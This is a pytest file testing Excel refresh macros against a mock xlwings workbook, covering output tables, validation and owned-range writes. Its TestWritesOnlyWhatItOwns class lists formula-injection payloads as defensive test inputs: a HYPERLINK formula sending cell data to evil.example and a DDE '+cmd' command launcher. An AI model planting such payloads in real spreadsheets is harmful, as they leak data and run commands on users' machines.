"""The refresh macros against a workbook double shaped like ``xlwings.Book``.

The double has what the macros touch in xlwings: ``book.sheets[...]``,
``book.names[...]`` with ``.refers_to`` / ``.refers_to_range``, ``book.names.add``,
``sheet.tables``, ``range.value``, ``range.options(ndim=2, err_to_str=True).value``,
``range.formula``, ``range.resize``, ``range.clear_contents()``, ``range.address``,
``range.row``/``.column``/``.shape``, ``sheet.used_range``, ``app.calculation``, ``app.screen_updating`` and
``app.alert``. Cells hold what Excel holds: numbers, text, booleans, ``datetime`` for
dates, :class:`XlErr` for error values (``None`` through ``.value``, their text with
``err_to_str``, as xlwings does), and formulas. Text written through ``.value`` is read
as Excel reads typed text: ``'`` makes the rest text, a leading ``=`` makes a formula.
Every write and clear is recorded with its sheet and rectangle.
"""

from __future__ import annotations

import csv
import math
import re
from pathlib import Path

import pytest
from test_book_build import CONTRACT_SHEETS

from alfa_xl.excel import macros

LINEUP_CSV = Path(__file__).parent.parent / "alfa_xl" / "model" / "data" / "lineup.csv"
ALL = ["base", "bear", "bull", "plan", "track_record"]


# -- the workbook double ----------------------------------------------------------------------------
def col_letters(col: int) -> str:
    out = ""
    while col:
        col, rem = divmod(col - 1, 26)
        out = chr(65 + rem) + out
    return out


def parse_cell(text: str) -> tuple[int, int]:
    m = re.fullmatch(r"\$?([A-Z]+)\$?(\d+)", text)
    col = 0
    for ch in m.group(1):
        col = col * 26 + ord(ch) - 64
    return int(m.group(2)), col


class XlErr:
    """An Excel error value in a cell (``#N/A``, ``#REF!``, ...)."""

    def __init__(self, text):
        self.text = text


class Options:
    """``range.options(ndim=2, err_to_str=True)``: 2-D values, error values as text."""

    def __init__(self, rng, ndim, err_to_str):
        self.rng, self.ndim, self.err_to_str = rng, ndim, err_to_str

    @property
    def value(self):
        grid = [
            [self.rng.sheet.cells.get((r, c)) for c in range(self.rng.column, self.rng.column + self.rng.columns)]
            for r in range(self.rng.row, self.rng.row + self.rng.rows)
        ]
        grid = [[(x.text if self.err_to_str else None) if isinstance(x, XlErr) else x for x in row] for row in grid]
        return grid if self.ndim == 2 else Range._shape(grid)


def excel_converts(text: str):
    """What Excel makes of text written through ``Range.value`` that it reads as a value
    (a few of its rules, enough for the tests): a number (``0012`` -> 12, ``1e3``), a
    percentage (``50%`` -> 0.5), a boolean (``TRUE``), a day/month date (``1/2`` -> 2 January
    as a date serial); ``None`` for text it keeps."""
    t = text.strip()
    if t.upper() in ("TRUE", "FALSE"):
        return t.upper() == "TRUE"
    if re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", t):
        return float(t)
    if re.fullmatch(r"[+-]?\d+(\.\d+)?%", t):
        return float(t[:-1]) / 100
    m = re.fullmatch(r"(\d{1,2})/(\d{1,2})", t)
    if m and 1 <= int(m.group(1)) <= 12 and 1 <= int(m.group(2)) <= 31:
        return (
            46023.0 + 31 * (int(m.group(1)) - 1) + int(m.group(2)) - 1
        )  # a serial in 2026, roughly: a number, not text
    return None


class Range:
    def __init__(self, sheet, row, column, rows=1, columns=1):
        self.sheet, self.row, self.column, self.rows, self.columns = sheet, row, column, rows, columns

    @property
    def shape(self):
        return self.rows, self.columns

    @property
    def address(self):
        first = f"${col_letters(self.column)}${self.row}"
        if self.shape == (1, 1):
            return first
        return f"{first}:${col_letters(self.column + self.columns - 1)}${self.row + self.rows - 1}"

    def resize(self, row_size=None, column_size=None):
        return Range(self.sheet, self.row, self.column, row_size or self.rows, column_size or self.columns)

    def cells(self):
        return [
            (r, c)
            for r in range(self.row, self.row + self.rows)
            for c in range(self.column, self.column + self.columns)
        ]

    @property
    def number_format(self):
        return self.sheet.formats.get((self.row, self.column), "General")

    def options(self, ndim=None, err_to_str=False, **_):
        return Options(self, ndim, err_to_str)

    @property
    def formula(self):
        """As xlwings: one cell's formula (or its constant as text); tuples of rows for more."""

        def one(r, c):
            if (r, c) in self.sheet.formulas:
                return self.sheet.formulas[(r, c)]
            x = self.sheet.cells.get((r, c))
            return "" if x is None else (x.text if isinstance(x, XlErr) else str(x))

        grid = tuple(
            tuple(one(r, c) for c in range(self.column, self.column + self.columns))
            for r in range(self.row, self.row + self.rows)
        )
        return grid[0][0] if self.shape == (1, 1) else grid

    @property
    def value(self):
        grid = [
            [self.sheet.cells.get((r, c)) for c in range(self.column, self.column + self.columns)]
            for r in range(self.row, self.row + self.rows)
        ]
        return self._shape([[None if isinstance(x, XlErr) else x for x in row] for row in grid])

    @staticmethod
    def _shape(grid):
        rows, columns = len(grid), len(grid[0])
        if (rows, columns) == (1, 1):
            return grid[0][0]
        if rows == 1:
            return grid[0]
        if columns == 1:
            return [r[0] for r in grid]
        return grid

    @value.setter
    def value(self, data):
        rows = (
            data
            if isinstance(data, list) and data and isinstance(data[0], list)
            else [data if isinstance(data, list) else [data]]
        )
        width = max(len(r) for r in rows)
        self.sheet.book.log.append(("write", self.sheet.name, self.row, self.column, len(rows), width))
        for i, r in enumerate(rows):
            for j, v in enumerate(r):
                at = (self.row + i, self.column + j)
                self.sheet.formulas.pop(at, None)
                if v is None or v == "":
                    self.sheet.cells.pop(at, None)
                elif isinstance(v, str) and v.startswith("'"):  # Excel's text prefix: the rest is text
                    self.sheet.cells[at] = v[1:]
                elif isinstance(v, str) and v.startswith(("=", "+", "-", "@")) and len(v) > 1:
                    self.sheet.formulas[at] = v  # Excel enters typed text like this as a formula
                    self.sheet.cells[at] = XlErr("#NAME?")
                elif isinstance(v, str) and excel_converts(v) is not None:
                    self.sheet.cells[at] = excel_converts(v)  # a number, a date, a boolean, a percentage
                else:
                    self.sheet.cells[at] = v

    def clear_contents(self):
        self.sheet.book.log.append(("clear", self.sheet.name, self.row, self.column, self.rows, self.columns))
        for key in self.cells():
            self.sheet.cells.pop(key, None)
            self.sheet.formulas.pop(key, None)


class Table:
    def __init__(self, name, rng):
        self.name, self.range = name, rng


class Sheet:
    def __init__(self, book, name):
        self.book, self.name, self.cells, self.tables, self.formulas, self.formats = book, name, {}, [], {}, {}

    def range(self, address):
        first, _, last = address.partition(":")
        r1, c1 = parse_cell(first)
        r2, c2 = parse_cell(last) if last else (r1, c1)
        return Range(self, r1, c1, r2 - r1 + 1, c2 - c1 + 1)

    def __getitem__(self, address):
        return self.range(address)

    @property
    def used_range(self):
        """As Excel's ``UsedRange``: from the first used row and column to the last (A1 when empty)."""
        used = set(self.cells) | set(self.formulas)
        if not used:
            return Range(self, 1, 1)
        r0, c0 = min(r for r, _ in used), min(c for _, c in used)
        return Range(self, r0, c0, max(r for r, _ in used) - r0 + 1, max(c for _, c in used) - c0 + 1)


class Name:
    def __init__(self, book, name, refers_to):
        self.book, self.name, self._refers_to = book, name, refers_to

    @property
    def refers_to(self):
        return self._refers_to

    @refers_to.setter
    def refers_to(self, value):
        self.book.log.append(("name", self.name, value))
        self._refers_to = value

    @property
    def refers_to_range(self):
        m = re.fullmatch(r"='?(.+?)'?!(.+)", self._refers_to)
        return self.book.sheets[m.group(1).replace("''", "'")].range(m.group(2))


class Names:
    def __init__(self, book):
        self.book, self.items = book, {}

    def __contains__(self, name):
        return name in self.items

    def __getitem__(self, name):
        return self.items[name]

    def add(self, name, refers_to):
        self.book.log.append(("name", name, refers_to))
        self.items[name] = Name(self.book, name, refers_to)
        return self.items[name]


class App:
    def __init__(self):
        self._calculation, self._screen_updating, self.changes, self.alerts = "automatic", True, [], []

    @property
    def calculation(self):
        return self._calculation

    @calculation.setter
    def calculation(self, value):
        self.changes.append(("calculation", value))
        self._calculation = value

    @property
    def screen_updating(self):
        return self._screen_updating

    @screen_updating.setter
    def screen_updating(self, value):
        self.changes.append(("screen_updating", value))
        self._screen_updating = value

    def alert(self, prompt, title=None, buttons="ok", mode=None, callback=None):
        self.alerts.append(prompt)


class Sheets:
    def __init__(self, sheets):
        self._sheets = {s.name: s for s in sheets}

    def __getitem__(self, name):
        return self._sheets[name]

    def __iter__(self):
        return iter(self._sheets.values())


class Book:
    def __init__(self):
        self.log = []
        self.app = App()
        self.sheets = Sheets(
            [
                Sheet(self, n)
                for n in CONTRACT_SHEETS
                if n != "xlwings.conf"  # the add-in's settings sheet: the macros never open it
            ]
        )
        self.names = Names(self)

    def define(self, name, sheet, address, value=None):
        self.names.items[name] = Name(self, name, f"='{sheet}'!{address}")
        if value is not None:
            self.names[name].refers_to_range.value = value

    def writes(self):
        return [e for e in self.log if e[0] in ("write", "clear")]


def lineup_rows():
    with LINEUP_CSV.open(encoding="utf-8") as fh:
        rows = list(csv.reader(fh))

    def cell(text):
        if text == "":
            return None
        try:
            return float(text)
        except ValueError:
            return text

    return [rows[0]] + [[cell(v) for v in r] for r in rows[1:]]


def make_book(scenarios=ALL, start=2026, end=2030, target=400000, lineup=None, paths=2000, seed=11, risk=True):
    book = Book()
    book.define("in_target", "Inputs", "$C$3", target)
    book.define("in_start_year", "Inputs", "$C$4", start)
    book.define("in_end_year", "Inputs", "$C$5", end)
    book.define("in_compare_year", "Inputs", "$C$6", 2030)
    book.define("in_scenario", "Inputs", "$C$7", "bear")
    book.define("in_scenario_list", "Inputs", "$C$9:$C$16", [[s] for s in scenarios] + [[None]] * (8 - len(scenarios)))
    book.define("in_paths", "Inputs", "$C$18", paths)
    book.define("in_seed", "Inputs", "$C$19", seed)
    rows = lineup or lineup_rows()
    inputs = book.sheets["Inputs"]
    table = inputs.range(f"$E$3:${col_letters(4 + len(rows[0]))}${2 + len(rows)}")
    table.value = rows
    inputs.tables.append(Table("tbl_lineup", table))
    book.define("out_scenarios", "Scenarios", "$B$5")
    if risk:
        book.define("out_risk", "Risk", "$A$6")
    book.define("out_status", "Scenarios", "$B$2")
    book.log.clear()
    return book


def expected_shape(k, years=5, models=9):
    """Rows and columns of the output, counted by hand: the comparison (title, header, one
    row per scenario), then per scenario a projection and a gap table, each preceded by a
    blank row and made of a title, a header and one row per year. Width: Year, models, Total."""
    return (k + 2) + 2 * k * (years + 3), models + 2


def risk_shape(years=5, drivers=9):
    """Rows and columns of out_risk, counted by hand: the fan (title, header, one row per
    year), a blank row, the probability by year (the same), a blank row and the tornado
    (title, header, one row per driver: slip, peak, yearly volume, tariff, the four planned
    models of the shipped lineup and the US E-SUV, reported cancelled but revived on 20% of
    paths). Width: the tornado's Driver, Low, High, Swing, Low setting, High setting, Scenario."""
    return 2 + years + 1 + 2 + years + 1 + 2 + drivers, 7


def owned_cells(book, *ranges):
    return {(r.sheet.name, rc) for r in ranges for rc in r.cells()}


def written_cells(book):
    out = set()
    for kind, sheet, row, col, nrows, ncols in book.writes():
        out |= {(sheet, (r, c)) for r in range(row, row + nrows) for c in range(col, col + ncols)}
    return out


# -- tests ------------------------------------------------------------------------------------------
class TestRefresh:
    def test_writes_the_tables_into_the_owned_rectangle(self):
        book = make_book()
        message = macros.refresh_scenarios(book)
        out = book.names["out_scenarios"].refers_to_range
        assert (out.sheet.name, out.row, out.column) == ("Scenarios", 5, 2)
        assert out.shape == expected_shape(5)
        grid = out.value
        assert grid[0][0] == "Scenarios compared in 2030 against 400,000"
        assert [r[0] for r in grid[2:7]] == ALL
        # base projection block: blank row, title, header, then 2026; Junior at age 2
        first = grid.index(next(r for r in grid if str(r[0]).startswith("Scenario: base")))
        header = grid[first + 1]
        assert header[0] == "Year" and header[-1] == "Total"
        assert grid[first + 2][0] == 2026
        assert grid[first + 2][header.index("Junior")] == pytest.approx(33000)  # held at its 2025 peak through 2026
        assert message == (
            "Refreshed by the Refresh button: 5 scenarios (base, bear, bull, plan, track_record), 2026-2030, "
            "target 400,000; risk: 2,000 paths around bear, seed 11"
        )
        assert book.sheets["Scenarios"].cells[(2, 2)] == message
        assert book.app.alerts == []

    def test_writes_the_risk_tables_around_in_scenario(self):
        book = make_book()
        macros.refresh_scenarios(book)
        out = book.names["out_risk"].refers_to_range
        assert (out.sheet.name, out.row, out.column) == ("Risk", 6, 1)
        assert out.shape == risk_shape()
        grid = out.value
        assert (
            grid[0][0]
            == "Calibrated forecast (a log random walk with drift, in the model's path order; 2,000 paths, seed 11), yearly total (units); Scenario and What-if P50: what-if, 2,000 paths around scenario bear, seed 11 (Scenario without uncertainty); current year unconditioned"
        )
        assert grid[1][:4] == ["Year", "P10", "P50", "P90"] and [r[0] for r in grid[2:7]] == [
            2026,
            2027,
            2028,
            2029,
            2030,
        ]
        assert all(r[1] <= r[2] <= r[3] for r in grid[2:7])
        assert (
            grid[8][0]
            == "Probability of reaching 400,000 a year, calibrated forecast with its standard error (the random walk's closed form, exact); What-if columns: 2,000 paths around scenario bear, seed 11"
        )
        assert all(0 <= r[1] <= 1 for r in grid[10:15])
        header = grid[17]
        assert header == ["Driver", "Low", "High", "Swing", "Low setting", "High setting", "Scenario"]
        rows = grid[18:]
        assert [r[3] for r in rows] == sorted((r[3] for r in rows), reverse=True)
        assert all(r[3] == pytest.approx(r[2] - r[1]) for r in rows)
        # the 4.3 m model launches in 2030 (lineup.csv); bear delays every launch a year,
        # so building or cancelling it changes nothing in 2030: the smallest swing, zero
        assert rows[-1][0] == "4.3 m model built or cancelled" and rows[-1][3] == 0

    def test_nothing_written_outside_owned_ranges(self):
        book = make_book()
        before = [book.names[n].refers_to_range for n in ("out_scenarios", "out_risk")]
        macros.refresh_scenarios(book)
        after = [book.names[n].refers_to_range for n in ("out_scenarios", "out_risk")]
        status = book.names["out_status"].refers_to_range
        assert written_cells(book) <= owned_cells(book, *before, *after, status)
        assert {e[1] for e in book.writes()} == {"Scenarios", "Risk"}
        assert {e[1] for e in book.log if e[0] == "name"} == {
            "out_scenarios",
            "out_risk",
            "_written_out_scenarios",
            "_written_out_risk",
            "_written_at_out_scenarios",
            "_written_at_out_risk",
            "_written_rows_out_scenarios",
            "_written_rows_out_risk",
        }

    def test_stored_copies_of_the_live_tables_follow_and_excel_recalculates(self):
        """The hidden names holding the live tables' last values (shown by Excel without the
        add-in) are rewritten with the new output; then Excel recalculates, also when the
        user keeps calculation on manual."""
        book = make_book(target=350000, end=2032)
        for name in ("_stored_by_model", "_stored_by_region", "_stored_gap_table"):
            book.names.items[name] = Name(book, name, '={"old"}')
        calls = []
        book.app.calculate = lambda: calls.append(book.app.calculation)
        macros.refresh_scenarios(book)
        assert calls == ["automatic"]
        gap = book.names["_stored_gap_table"].refers_to
        assert gap.startswith('={"Year","Projection","Target","Gap",')
        rows = gap[2:-1].split(";")
        assert len(rows) == 1 + 7  # header and 2026-2032
        year, projection, target, shortfall = (float(x) for x in rows[-1].split(",")[:4])
        assert (year, target) == (2032, 350000) and shortfall == pytest.approx(350000 - projection, rel=1e-12)
        model = book.names["_stored_by_model"].refers_to
        assert model.startswith('={"Year","Junior",') and model.count(";") == 7
        assert book.names["_stored_by_region"].refers_to.startswith('={"Year","Italy",')

    def test_a_platform_that_cannot_recalculate_still_gets_the_output(self):
        book = make_book()

        def refuse():
            raise NotImplementedError("calculate")

        book.app.calculate = refuse
        message = macros.refresh_scenarios(book)
        assert message.startswith("Refreshed by the Refresh button") and book.app.alerts == []

    def test_a_horizon_longer_than_the_sheets_hold_is_refused(self):
        book = make_book(end=2045)
        message = macros.refresh_scenarios(book)
        assert message == (
            "Refresh stopped, nothing changed: Inputs!C5 (in_end_year): 20 years from 2026; the sheets hold at most 19 "
            "(got 2045); type an end year of 2044 or earlier, or a later start year"
        )
        assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]  # the status cell only

    def test_both_areas_written_inside_one_quiet_block(self):
        book = make_book()
        macros.refresh_scenarios(book)
        assert book.app.changes == [
            ("calculation", "manual"),
            ("screen_updating", False),
            ("calculation", "automatic"),
            ("screen_updating", True),
        ]

    def test_workbook_without_risk_area(self):
        """A workbook without out_risk (built before the Risk sheet) refreshes its scenarios."""
        book = make_book(risk=False)
        del book.names.items["in_paths"], book.names.items["in_seed"]
        message = macros.refresh_scenarios(book)
        assert message.endswith("risk: 10,000 paths around bear, seed 20140506")
        assert {e[1] for e in book.writes()} == {"Scenarios"}

    def test_calculation_manual_and_screen_off_while_writing_then_restored(self):
        book = make_book()
        macros.refresh_scenarios(book)
        assert book.app.changes[:2] == [("calculation", "manual"), ("screen_updating", False)]
        assert book.app.calculation == "automatic" and book.app.screen_updating is True

    def test_second_refresh_is_idempotent(self):
        book = make_book()
        macros.refresh_scenarios(book)
        cells = {n: dict(book.sheets[n].cells) for n in ("Scenarios", "Risk")}
        names = {n: book.names[n].refers_to for n in ("out_scenarios", "out_risk")}
        macros.refresh_scenarios(book)
        assert {n: book.sheets[n].cells for n in ("Scenarios", "Risk")} == cells
        assert {n: book.names[n].refers_to for n in ("out_scenarios", "out_risk")} == names

    def test_seed_gives_the_same_risk_figures_and_another_seed_others(self):
        a, b, c = make_book(seed=3), make_book(seed=3), make_book(seed=4)
        for book in (a, b, c):
            macros.refresh_scenarios(book)
        fan = lambda book: book.names["out_risk"].refers_to_range.value[2:7]  # noqa: E731
        assert fan(a) == fan(b) and fan(a) != fan(c)

    def test_smaller_output_clears_the_previous_extent(self):
        book = make_book()
        macros.refresh_scenarios(book)
        big = book.names["out_scenarios"].refers_to_range
        book.names["in_scenario_list"].refers_to_range.value = [["bull"]] + [[None]] * 7
        book.names["in_end_year"].refers_to_range.value = 2030
        macros.refresh_scenarios(book)
        small = book.names["out_scenarios"].refers_to_range
        assert small.shape == expected_shape(1) and small.shape[0] < big.shape[0]
        assert book.names["out_scenarios"].refers_to == f"='Scenarios'!$B$5:$L${5 + expected_shape(1)[0] - 1}"
        left = {rc for rc in book.sheets["Scenarios"].cells if rc != (2, 2)}
        assert left <= set(small.cells())
        assert [r[0] for r in small.value[2:3]] == ["bull"]

    def test_shorter_horizon_clears_the_previous_risk_extent(self):
        book = make_book()
        macros.refresh_scenarios(book)
        book.names["in_end_year"].refers_to_range.value = 2027
        macros.refresh_scenarios(book)
        out = book.names["out_risk"].refers_to_range
        assert out.shape == risk_shape(years=2)  # the tornado stays on the compare year, 2030
        assert book.names["out_risk"].refers_to == f"='Risk'!$A$6:$G${6 + out.shape[0] - 1}"
        assert set(book.sheets["Risk"].cells) <= set(out.cells())

    def test_lineup_comes_from_the_table(self):
        rows = lineup_rows()
        junior = next(r for r in rows if r[0] == "Junior")
        junior[rows[0].index("peak_units")] = 66000.0
        book = make_book(scenarios=["base"], lineup=rows)
        macros.refresh_scenarios(book)
        grid = book.names["out_scenarios"].refers_to_range.value
        first = next(i for i, r in enumerate(grid) if str(r[0]).startswith("Scenario: base"))
        assert grid[first + 2][grid[first + 1].index("Junior")] == pytest.approx(66000)  # held through 2026

    def test_uses_the_calling_book_when_none_is_given(self, mocker):
        book = make_book(scenarios=["base"])
        caller = mocker.patch("xlwings.Book.caller", return_value=book)
        macros.refresh_scenarios()
        caller.assert_called_once_with()
        assert book.names["out_scenarios"].refers_to_range.shape == expected_shape(1)
        assert book.names["out_risk"].refers_to_range.shape == risk_shape()

    def test_one_scenario_from_in_scenario(self):
        book = make_book()
        message = macros.refresh_scenario(book)
        grid = book.names["out_scenarios"].refers_to_range.value
        assert grid[2][0] == "bear" and len(grid) == expected_shape(1)[0]
        assert (
            book.names["out_risk"]
            .refers_to_range.value[0][0]
            .startswith(
                "Calibrated forecast (a log random walk with drift, in the model's path order; 2,000 paths, seed 11)"
            )
        )
        assert message.startswith("Refreshed by the Refresh button: 1 scenario (bear), ")


class TestValidationFirst:
    @pytest.mark.parametrize(
        "name, value, expected",
        [
            ("in_start_year", "next year", "in_start_year"),
            ("in_end_year", 2020, "in_end_year"),
            ("in_target", -5, "in_target"),
            ("in_scenario_list", [["base"], ["beer"]] + [[None]] * 6, "in_scenario_list"),
            ("in_scenario", "moonshot", "in_scenario"),
            ("in_paths", -10, "in_paths"),
            ("in_paths", 2_000_000, "in_paths"),
            ("in_paths", 12.5, "in_paths"),
            ("in_seed", -1, "in_seed"),
            ("in_seed", "lucky", "in_seed"),
        ],
    )
    def test_bad_input_writes_nothing_but_the_status(self, name, value, expected):
        book = make_book()
        book.names[name].refers_to_range.value = value
        book.log.clear()
        message = macros.refresh_scenarios(book)
        assert message.startswith("Refresh stopped, nothing changed:") and expected in message
        status = book.names["out_status"].refers_to_range
        assert written_cells(book) <= owned_cells(book, status)
        assert not [e for e in book.log if e[0] == "name"]
        assert book.app.changes == []
        assert book.app.alerts == [message]

    def test_bad_lineup_row_is_named(self):
        rows = lineup_rows()
        rows[1][rows[0].index("share_italy")] = 0.9
        book = make_book(lineup=rows)
        message = macros.refresh_scenarios(book)
        # the same cell-naming message as alfa-xl refresh (the table starts at E3: Junior is row 4)
        assert "Inputs!Q4 (tbl_lineup[share_italy], model 'Junior'): do not sum to 1" in message
        assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]

    def test_bad_risk_input_found_before_the_scenarios_are_written(self):
        book = make_book()
        macros.refresh_scenarios(book)
        cells = {n: dict(book.sheets[n].cells) for n in ("Scenarios", "Risk")}
        book.names["in_seed"].refers_to_range.value = 2.5
        book.log.clear()
        message = macros.refresh_scenarios(book)
        assert message.startswith(
            "Refresh stopped, nothing changed: Inputs!C19 (in_seed): not a whole number (got 2.5)"
        )
        assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]
        assert book.sheets["Risk"].cells == cells["Risk"]
        assert {k: v for k, v in book.sheets["Scenarios"].cells.items() if k != (2, 2)} == {
            k: v for k, v in cells["Scenarios"].items() if k != (2, 2)
        }

    def test_blank_paths_and_seed_take_the_defaults(self):
        book = make_book(scenarios=["base"], paths=None, seed=None)
        message = macros.refresh_scenarios(book)
        assert message.endswith("risk: 10,000 paths around bear, seed 20140506")

    def test_seed_zero_is_a_seed(self):
        book = make_book(scenarios=["base"], seed=0)
        assert macros.refresh_scenarios(book).endswith("seed 0")

    def test_missing_output_name(self):
        book = make_book()
        del book.names.items["out_scenarios"]
        message = macros.refresh_scenarios(book)
        assert "out_scenarios" in message and "Name Manager" in message
        assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]


class TestFailureWhileWriting:
    def test_settings_restored_and_error_reported(self, mocker):
        book = make_book()
        original = Range.value.fset

        def failing(self, data):
            if self.sheet.name == "Risk" and self.shape != (1, 1):
                raise OSError("Excel busy")  # after the Scenarios area was written
            original(self, data)

        mocker.patch.object(Range, "value", property(Range.value.fget, failing))
        with pytest.raises(OSError):
            macros.refresh_scenarios(book)
        assert book.app.calculation == "automatic" and book.app.screen_updating is True
        assert book.app.changes[-2:] == [("calculation", "automatic"), ("screen_updating", True)]
        assert book.app.alerts and book.app.alerts[0].startswith("Refresh failed while writing (OSError)")
        assert book.sheets["Scenarios"].cells[(2, 2)] == book.app.alerts[0]

    def test_restores_settings_the_user_had(self):
        book = make_book()
        book.app._calculation, book.app._screen_updating = "semiautomatic", False
        macros.refresh_scenarios(book)
        assert book.app.calculation == "semiautomatic" and book.app.screen_updating is False


def test_platform_without_alert_or_app_settings(mocker):
    book = make_book(scenarios=["base"])

    class BareApp:  # e.g. a runtime without message boxes or calculation control
        pass

    book.app = BareApp()
    book.names["in_start_year"].refers_to_range.value = "soon"
    assert macros.refresh_scenarios(book).startswith("Refresh stopped")
    book.names["in_start_year"].refers_to_range.value = 2026
    assert macros.refresh_scenarios(book).startswith("Refreshed by the Refresh button: 1 scenario (base)")


def test_clear_scenarios():
    book = make_book()
    macros.refresh_scenarios(book)
    macros.clear_scenarios(book)
    assert set(book.sheets["Scenarios"].cells) == {(2, 2)}
    assert book.names["out_scenarios"].refers_to == "='Scenarios'!$B$5"
    assert book.app.calculation == "automatic" and book.app.screen_updating is True


class TestWritesOnlyWhatItOwns:
    EVIL = [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tTab",
        "\rReturn",
    ]

    def test_text_that_looks_like_a_formula_stays_text(self):
        rows = lineup_rows()
        j = rows[0].index("model")
        planned = [i for i, r in enumerate(rows) if i and r[rows[0].index("status")] == "planned"]
        for i, name in zip(planned, self.EVIL):
            rows[i][j] = "'" + name  # typed as text in Excel
        book = make_book(scenarios=["base"], lineup=rows)
        assert all(not s.formulas for s in book.sheets)
        message = macros.refresh_scenarios(book)
        assert message.startswith("Refreshed"), message
        assert all(not s.formulas for s in book.sheets)  # Excel entered no formula
        texts = {v for s in book.sheets for v in s.cells.values() if isinstance(v, str)}
        assert {n.strip() for n in self.EVIL[: len(planned)]} <= {t.strip() for t in texts}

    @pytest.mark.parametrize(
        "name, ref, fragment",
        [
            ("out_scenarios", "$A$1:$B$3", "defined name out_scenarios: on sheet Inputs, not on Scenarios"),
            ("out_risk", "$A$6", "defined name out_risk: on sheet Inputs, not on Risk"),
            ("out_status", "$C$3", "defined name out_status: on sheet Inputs, not on Scenarios"),
        ],
    )
    def test_owned_name_on_another_sheet_is_refused(self, name, ref, fragment):
        book = make_book()
        book.define(name, "Inputs", ref)
        before = {s.name: dict(s.cells) for s in book.sheets}
        message = macros.refresh_scenarios(book)
        assert message.startswith("Refresh stopped, nothing changed: " + fragment)
        # nothing written anywhere but the status cell on Scenarios (not even the status
        # line, when out_status itself points at Inputs)
        assert {s.name: dict(s.cells) for s in book.sheets if s.name != "Scenarios"} == {
            k: v for k, v in before.items() if k != "Scenarios"
        }
        assert not [e for e in book.writes() if e[1] != "Scenarios"]

    def test_owned_area_overlapping_the_status_cell_is_refused(self):
        book = make_book()
        book.define("out_status", "Scenarios", "$C$8")
        message = macros.refresh_scenarios(book)
        assert "overlaps out_status" in message and not [e for e in book.log if e[0] == "name"]

    def test_growing_over_notes_is_refused_and_names_the_cells(self):
        book = make_book(scenarios=["base"])
        macros.refresh_scenarios(book)
        rows = book.names["out_scenarios"].refers_to_range.rows
        book.sheets["Scenarios"].cells[(5 + rows + 2, 2)] = "my notes"  # two rows below the area
        book.names["in_end_year"].refers_to_range.value = 2035
        book.log.clear()
        message = macros.refresh_scenarios(book)
        assert f"1 non-empty cell it did not write: Scenarios!B{5 + rows + 2}" in message
        assert book.sheets["Scenarios"].cells[(5 + rows + 2, 2)] == "my notes"
        assert book.writes() == [("write", "Scenarios", 2, 2, 1, 1)]


class TestEnlargedNameRefusedInExcel:
    """Regression: the macro took "written last time" from the owned name itself, so a
    name enlarged in Name Manager made it clear cells it never wrote."""

    def test_enlarged_owned_name_over_notes_is_refused(self):
        book = make_book(scenarios=["base"])
        assert macros.refresh_scenarios(book).startswith("Refreshed")
        area = book.names["out_scenarios"].refers_to_range
        last_row = area.row + area.rows - 1  # 1-based rows of the fake sheet
        note_row = last_row + 3
        book.sheets["Scenarios"].cells[(note_row, 2)] = "my notes"
        book.define("out_scenarios", "Scenarios", f"$A${area.row}:$K${note_row + 1}")  # enlarged by hand
        book.log.clear()
        message = macros.refresh_scenarios(book)
        assert message.startswith("Refresh stopped, nothing changed"), message
        assert f"Scenarios!B{note_row}" in message and "it did not write" in message
        assert book.sheets["Scenarios"].cells[(note_row, 2)] == "my notes"
        assert [e for e in book.writes() if e[1] != "Scenarios" or e[2:4] != (2, 2)] == []
